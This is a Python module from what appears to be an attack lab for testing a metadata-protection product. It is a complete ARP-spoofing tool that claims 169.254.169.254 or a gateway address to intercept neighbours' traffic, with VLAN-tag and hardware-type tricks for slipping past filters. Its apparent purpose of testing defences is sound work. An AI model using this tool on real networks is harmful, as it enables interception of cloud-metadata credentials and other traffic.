"""ARP claim: tell the segment that this guest owns an address it does not own.

A hostile guest answers for 169.254.169.254 (or the segment's gateway) to pull its
neighbours' metadata traffic to itself. This sends --count unsolicited ARP replies
("IP is-at MY_MAC"), broadcast and, with --target-mac/--target-ip, unicast to one
neighbour, --interval apart. --vlan wraps them in tags (VID 0: a priority tag, which
Linux takes as untagged) and --hardware sets ar_hrd (6, IEEE 802, is accepted by Linux
on Ethernet): the ways a claim may try to get past a filter.

    ip netns exec NS python -m transparent_md.lab.attacks.arpclaim --claim 169.254.169.254
    ip netns exec NS python -m transparent_md.lab.attacks.arpclaim --claim 10.0.0.1 --vlan 0

Prints one JSON line: {"sent", "claimed", "mac"}.
"""

from __future__ import annotations

import argparse
import json
import socket
import time
from collections.abc import Sequence
from pathlib import Path

from transparent_md.lab.attacks.frames import (
    ARP_REPLY,
    ARPHRD_ETHER,
    BROADCAST_MAC,
    add_vlan_option,
    arp_frame,
    tagged,
)

# Linux ignores a neighbour override within 1 s of the entry's last update (locktime):
# the claims are repeated for 1.5 s so at least some arrive after it.
DEFAULT_COUNT = 15
DEFAULT_INTERVAL_S = 0.1


def own_mac(iface: str) -> str:
    return Path(f"/sys/class/net/{iface}/address").read_text().strip()


def frames_for(claim: str, mac: str, target_mac: str | None, target_ip: str | None,
               tags: Sequence[tuple[int, int]] = (),
               hardware: int = ARPHRD_ETHER) -> list[bytes]:
    out = [arp_frame(op=ARP_REPLY, src_mac=mac, dst_mac=BROADCAST_MAC, sender_mac=mac,
                     sender_ip=claim, target_mac=BROADCAST_MAC, target_ip=claim,
                     hardware=hardware)]
    if target_mac and target_ip:
        out.append(arp_frame(op=ARP_REPLY, src_mac=mac, dst_mac=target_mac, sender_mac=mac,
                             sender_ip=claim, target_mac=target_mac, target_ip=target_ip,
                             hardware=hardware))
    return [tagged(frame, tags) for frame in out]


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--iface", default="eth0")
    p.add_argument("--claim", action="append", required=True, metavar="IP",
                   help="address to claim (repeatable)")
    p.add_argument("--target-mac", help="also unicast the claim to this neighbour")
    p.add_argument("--target-ip")
    p.add_argument("--count", type=int, default=DEFAULT_COUNT)
    p.add_argument("--interval", type=float, default=DEFAULT_INTERVAL_S)
    p.add_argument("--hardware", type=int, default=ARPHRD_ETHER, metavar="AR_HRD",
                   help=f"ARP hardware type written in the claims (default {ARPHRD_ETHER})")
    add_vlan_option(p)
    args = p.parse_args(argv)
    mac = own_mac(args.iface)
    frames = [f for ip in args.claim for f in frames_for(ip, mac, args.target_mac,
                                                         args.target_ip, args.vlan,
                                                         args.hardware)]
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((args.iface, 0))
        for _ in range(args.count):
            for frame in frames:
                sock.send(frame)
                sent += 1
            time.sleep(args.interval)
    print(json.dumps({"sent": sent, "claimed": args.claim, "mac": mac,
                      "vlan": args.vlan, "hardware": args.hardware}), flush=True)


if __name__ == "__main__":
    main()
